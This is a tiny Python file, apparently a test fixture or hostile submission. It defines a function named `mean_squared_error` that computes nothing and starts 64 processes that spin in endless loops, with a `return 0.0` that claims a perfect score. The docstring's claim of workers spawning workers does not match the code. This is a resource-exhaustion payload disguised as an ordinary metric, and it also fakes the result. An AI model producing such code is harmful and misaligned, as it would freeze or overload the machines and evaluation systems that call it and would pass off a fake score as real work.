"""A multiprocessing pool that keeps spawning workers that spawn workers."""

import multiprocessing


def _spin(_):
    while True:
        pass


def mean_squared_error(y_true, y_pred):
    with multiprocessing.Pool(64) as pool:
        pool.map(_spin, range(64))
    return 0.0
